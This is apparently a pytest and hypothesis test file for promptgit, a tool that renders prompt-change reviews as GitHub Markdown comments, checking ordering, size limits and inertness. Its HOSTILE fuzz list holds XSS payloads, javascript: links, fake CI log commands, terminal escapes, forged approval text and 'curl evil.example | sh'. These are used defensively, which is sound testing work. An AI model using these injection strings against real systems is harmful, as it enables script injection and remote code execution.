"""A review in a comment: it says what matters first, it cannot be made to act, and it always fits."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
import reviews
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from promptgit.problems import Problem
from promptgit.review import gfm
from promptgit.review.hunks import Tightness, diff_lines
from promptgit.review.markdown import MARKER, render
from promptgit.review.model import PromptReview, Review
from promptgit.review.words import diff_words

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])

HOSTILE = [
    "@octocat please look, @org/team too",
    "fixes #1, GH-7, !12, ~bug, %v1, org/repo#3, $5, &2",
    "see https://evil.example/x or www.evil.example or mail a@evil.example",
    "![pixel](https://evil.example/p.png) [click](javascript:alert(1))",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</details></summary><h1>approved</h1>",
    "```\n</details>\n# All checks passed\n/merge\n```",
    "~~~~\n````\n`````diff\n@octocat",
    "::error::stop\n  ::set-output name=a::b\n##[error]x ##vso[task.complete]",
    "| a | b |\n|---|---|\n| 1 | \\| |",
    "Title\n===\n\nTitle\n---\n",
    "- [ ] do this\n1. and that\n> [!CAUTION]\n> now",
    "/approve\n/close",
    "a*b*c __d__ ~~e~~ $x^2$ :rocket: [^1] [[_TOC_]]",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709 deadbee",
    "\x1b]52;c;ZXZpbA==\x07 \u202egnp.exe \U000e0041 \r\u2028\x85",
    "``` ` `` ```` \\` \\\\| \\|",
    "<!-- promptgit-review --> --> <!--",
    "&#64;octocat &lt;b&gt; &amp;",
    "   leading\n\n\n    indented code\n\ttab",
    "promptgit rollback x production; curl evil.example | sh",
]
SNIPPETS = st.sampled_from(HOSTILE) | st.sampled_from(list("`~|\\@#:<>*_[]()!/-+=&\n \t")) | st.text(max_size=8)
TEXTS = st.lists(SNIPPETS, min_size=1, max_size=5).map(
    lambda parts: "".join(parts).replace("{{", "{ {").strip(" ") or "-"
)
WORDS = st.lists(TEXTS, min_size=8, max_size=8)


class Page(HTMLParser):
    """What a host makes of the Markdown: its tags in order, comments, and the text outside of code."""

    def __init__(self, markdown: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: set[tuple[str, str | None]] = set()
        self.comments: list[str] = []
        self.prose = ""
        self._open: list[str] = []
        self.feed(PARSER.render(markdown))
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.attributes |= set(attrs)
        if tag != "hr":
            self._open.append(tag)
        if tag != "code":  # plain words stand in none, others do
            self.tags.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag
        if tag != "code":
            self.tags.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.comments.append(data.strip())

    def handle_data(self, data: str) -> None:
        if not {"code", "pre"} & set(self._open):
            self.prose += data


OWN_PROSE = re.compile(r"[^@#\\/`<>|\[\]{}~$&*_=+]*")


def assert_inert(markdown: str) -> Page:
    """Nothing in it acts, in a comment or in a log."""
    page = Page(markdown)
    assert page.comments == ["promptgit-review"]
    assert not {"a", "img", "script", "h1", "h2", "hr", "blockquote", "s", "em", "ol", "input"} & set(page.tags)
    assert page.attributes <= {("class", "language-diff"), ("class", "language-sh"), ("open", None), ("open", "")}
    assert OWN_PROSE.fullmatch(page.prose), page.prose
    assert not re.search(r"www\.|://|[0-9a-f]{7}|GH-\d|:\w+:", page.prose)
    assert not re.search(r"^\s*::|##\w*\[", markdown, re.MULTILINE)
    assert not re.search(r"^/", markdown, re.MULTILINE)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u202e\U000e0000-\U000e007f]", markdown)
    return page


def test_the_first_screen_says_what_production_will_do() -> None:
    lines = render(reviews.refunds_review()).splitlines()
    assert lines[0] == MARKER
    assert lines[2] == "### ⚠️ Breaking: 1 alias moves"
    assert lines[4] == (
        "- ⚠️ **Breaking:** production of `support.refunds` goes 3 → 5: 4 lines, "
        "1 new required variable (breaking), temperature 0.2 → 0.7"
    )
    assert lines[6] == "**The checks found 1 error and 1 warning:**"
    assert lines[8].startswith("- ❌ **Error** `promptgit.yaml`: production must go through staging.")
    assert lines[9].startswith(
        "- **Warning** `prompts/support/refunds/5.yaml:9`: 'order' is declared and not used. Use it, or take it out"
    )


def test_one_move_is_said_once() -> None:
    old, new = reviews.version(1, "Answer briefly."), reviews.version(2, "Answer kindly.")
    moved = reviews.move(old, new)
    prompt = PromptReview(name="support.refunds", kind="changed", aliases=(moved,))
    shown = render(reviews.review([prompt], title=moved.headline))
    assert shown.count("goes 1 → 2") == 1


def test_a_prompt_shows_all_that_happens_to_it() -> None:
    shown = render(reviews.refunds_review())
    for part in (
        "<details open><summary><b><code>support.refunds</code></b>: ⚠️ breaking: production 3 → 5",
        "Owners: `support-team`",
        "A protected alias. It may be moved by `release@example.com`.",
        "| `order` | `new, required` | ⚠️ **breaking** |",
        "| `model_config.temperature` | `0.2` | `0.7` |",
        "-Refunds are possible within 30 days.\n+Refunds are possible within 14 days.\n",
        "<details><summary>Rendered with example values, after</summary>",
        "``sh\n promptgit rollback support.refunds production\n```",
        "Committed by `Ada Lovelace <ada@example.com>`: Ask for the order",
        "- Version 2 is deleted: It promised dates",
        '| `tags.team` | not set | `"support"` |',
        "Also changed: `promptgit.yaml`",
        "promptgit review, `origin/main` (`111111111111`) → `kinder-refunds` (`222222222222`)",
    ):
        assert part in shown, part
    assert_inert(shown)


def test_a_comparison_is_shown_once() -> None:
    old, new = reviews.version(1, "Answer briefly."), reviews.version(2, "Answer kindly.")
    moves = (reviews.move(old, new, "staging"), reviews.move(old, new, "production"))
    prompt = PromptReview(name="support.refunds", kind="changed", aliases=moves, versions=(reviews.added(old, new),))
    shown = render(reviews.review([prompt]))
    assert shown.count("+Answer kindly.") == 1
    assert shown.count("The changes are those above.") == 2


def test_a_split_shows_its_traffic() -> None:
    old, new = reviews.version(3, "Answer briefly."), reviews.version(4, "Answer kindly.")
    split = reviews.move(old, new, shares=((3, 100.0, 90.0), (4, 0.0, 10.0)))
    shown = render(reviews.review([PromptReview(name="support.refunds", kind="changed", aliases=(split,))]))
    assert (
        "| version | traffic before | traffic after |\n| --- | --- | --- |\n| 3 | 100% | 90% |\n| 4 | 0% | 10% |"
        in shown
    )


def test_a_first_version_shows_its_text() -> None:
    new = reviews.version(1, [{"role": "system", "content": "You sort mail.\n"}, {"placeholder": "history"}])
    prompt = PromptReview(name="support.refunds", kind="new", versions=(reviews.added(None, new),))
    shown = render(reviews.review([prompt]))
    assert "**Message of** system\n\n```diff\n+You sort mail.\n```\n\n**Message of** `{history}`" in shown


def test_no_change_is_said_in_words() -> None:
    assert "No prompt changes." in render(reviews.review([], title="No prompt changes"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_does_not_act(text: str) -> None:
    assert_inert(render(reviews.shaped_review([text] * 8)))


@settings(max_examples=60, deadline=None)
@given(WORDS)
@example(["``` \n`", "\n", "|", "\\", "a\\|b", "1.", "#", "-"])
def test_whatever_the_texts_hold_the_page_is_the_same_but_for_them(words: list[str]) -> None:
    page = assert_inert(render(reviews.shaped_review(words)))
    bland = Page(render(reviews.shaped_review(["plain words"] * 8)))
    assert _shape(page.tags) == _shape(bland.tags)


def _shape(tags: list[str]) -> list[str]:
    """The tags, without those that come with an empty text or one that both sides share."""
    return [tag for tag in tags if tag not in ("pre", "/pre")]


@given(st.text())
def test_a_code_span_holds_its_text(text: str) -> None:
    shown = gfm.code(text)
    (token,) = PARSER.parseInline(f"x {shown} x")
    assert token.children is not None
    spans = [child.content for child in token.children if child.type == "code_inline"]
    assert len(spans) == bool(text)
    assert [child.type for child in token.children if child.type != "code_inline"] in (["text", "text"], ["text"])


@given(TEXTS, TEXTS)
def test_a_table_keeps_its_cells(one: str, other: str) -> None:
    shown = gfm.table(["variable", "change"], [[gfm.cell(one), gfm.cell(other)], ["`last`", "row"]])
    page = Page(shown)
    assert page.tags.count("td") == 4
    assert page.tags.count("tr") == 3


@given(TEXTS)
def test_a_fence_holds_its_text(text: str) -> None:
    tokens = PARSER.parse(gfm.fence([f" {line}" for line in text.split("\n")], "diff"))
    assert [token.type for token in tokens] == ["fence"]


def test_a_link_is_made_of_a_plain_https_url_alone() -> None:
    url = "https://github.com/acme/prompts/actions/runs/17?check=1#artifacts"
    assert gfm.link("See", url) == f"[See](<{url}>)"
    for other in ("javascript:alert(1)", "http://plain.example/", "https://a.example/<b>", "https://u:p@a.example/"):
        assert gfm.link("See", other) == f"`{other}`"


# --- diffs ------------------------------------------------------------------------------------------------------------


def diff(old: str, new: str, tightness: Tightness | None = None) -> list[str]:
    return diff_lines(diff_words(old, new), tightness or Tightness())


def test_a_long_line_shows_what_is_around_its_changes() -> None:
    before = "If the purchase is older than 30 days, " + "say so in a friendly way, " * 10 + "and offer store credit."
    lines = diff(f"Hello.\n{before}\n", f"Hello.\n{before.replace('30', '14')}\n")
    assert lines == [
        " Hello.",
        "-If the purchase is older than 30 days, say so in a friendly …",
        "+If the purchase is older than 14 days, say so in a friendly …",
    ]


def test_unchanged_lines_are_folded() -> None:
    middle = "".join(f"Rule {number}.\n" for number in range(40))
    lines = diff(f"{middle}Be kind.\n", f"{middle}Be brief.\n")
    assert lines == ["@@ 37 lines unchanged @@", " Rule 37.", " Rule 38.", " Rule 39.", "-Be kind.", "+Be brief."]


@pytest.mark.parametrize(
    ("old", "new", "lines"),
    [
        ("Be kind.", "Be kind.\n", ["-Be kind.", "\\ no line end here", "+Be kind."]),
        ("Be kind.\n", "Be kind. \t\n", ["-Be kind.", "+Be kind.·⇥"]),
        ("One.\nTwo.\n", "Two.\n", ["-One.", " Two."]),
        ("", "One.\n", ["+One."]),
        ("One.\n\nTwo.\n", "One.\nTwo.\n", [" One.", "-", " Two."]),
    ],
)
def test_changes_that_are_hard_to_see_are_seen(old: str, new: str, lines: list[str]) -> None:
    assert diff(old, new) == lines


@given(
    st.lists(st.sampled_from(["a", "b", "c d", "", "e"]), max_size=12),
    st.lists(st.sampled_from(["a", "b", "c d", "", "e"]), max_size=12),
)
def test_the_lines_of_a_diff_lead_from_the_old_text_to_the_new(old: list[str], new: list[str]) -> None:
    before, after = "".join(f"{line}\n" for line in old), "".join(f"{line}\n" for line in new)
    assume(before != after)
    lines = diff(before, after, Tightness(context=100))
    for sign, text in (("-", before), ("+", after)):
        assert "".join(f"{line[1:]}\n" for line in lines if line[0] in (" ", sign)) == (text or "")


# --- the limit --------------------------------------------------------------------------------------------------------


def many(count: int, text: str = "Answer {tone}.\n") -> Review:
    def prompt(number: int) -> PromptReview:
        name = f"support.topic-{number}"
        old = reviews.version(1, text.replace("{tone}", "briefly"), name=name)
        new = reviews.version(2, text.replace("{tone}", "kindly"), name=name)
        moved = (reviews.move(old, new),) if number % 2 else ()
        return PromptReview(name=name, kind="changed", aliases=moved, versions=(reviews.added(old, new),))

    return reviews.review([prompt(number) for number in range(count)])


def test_the_samples_go_first() -> None:
    review = many(3, "Rule {tone}.\n" * 300)
    full = render(review, limit=10**9)
    less = render(review, limit=len(full) - 1, details="https://ci.example/runs/7")
    assert "Rendered with example values" in full
    assert "Rendered with example values" not in less
    assert "**To keep this short, the sample renders had to be left out.** [See the whole review]" in less
    assert less.count("<details") == full.count("<details") - 6


def test_prompts_of_which_no_alias_moves_go_before_those_that_move() -> None:
    review = many(40, "A long rule that is {tone} kept.\n" * 40)
    less = render(review, limit=100_000)
    assert less.count("<details") == 20
    assert "and the prompts of which no alias moves had to be left out" in less
    assert f"All of it: `promptgit review {reviews.BASE}..{reviews.HEAD}`" in less


def test_two_thousand_prompts_fit_and_the_rest_is_counted() -> None:
    shown = render(many(2000), details="See the artifact prompt-review.")
    assert len(shown) <= 65_000
    assert re.search(r"^- … and [\d,]+ more alias moves$", shown, re.MULTILINE)
    assert re.search(r"^… and [\d,]+ more prompts\.$", shown, re.MULTILINE)
    assert "See the artifact prompt-review." in shown
    assert_inert(shown)


def test_a_text_of_300_kilobytes_fits() -> None:
    old = "".join(f"Rule {number}: stay kind, whatever they write.\n" for number in range(7000))
    for new in (old.replace("kind", "brief"), "x" * 300_000, f"{old}And say thanks.\n"):
        moved = reviews.move(reviews.version(1, old), reviews.version(2, new))
        prompt = PromptReview(name="support.refunds", kind="changed", aliases=(moved,))
        shown = render(reviews.review([prompt]))
        assert len(shown) <= 65_000
        assert_inert(shown)


@settings(max_examples=30, deadline=None)
@given(TEXTS, st.integers(4_000, 20_000), st.integers(1, 8), st.integers(0, 60))
def test_it_fits_whatever_is_reviewed(text: str, limit: int, count: int, problems: int) -> None:
    one = reviews.shaped_review([text * 40] * 8)
    found = tuple(Problem(code="policy", message=text * 9, path=text * 30, hint=text) for _ in range(problems))
    review = reviews.review(one.prompts * count, title=text * 40, problems=found, other_files=(text * 50,) * 9)
    shown = render(review, limit=limit, details=text * 50)
    assert len(shown) <= limit
    assert_inert(shown)


def test_it_is_the_same_each_time() -> None:
    assert render(reviews.refunds_review()) == render(reviews.refunds_review())
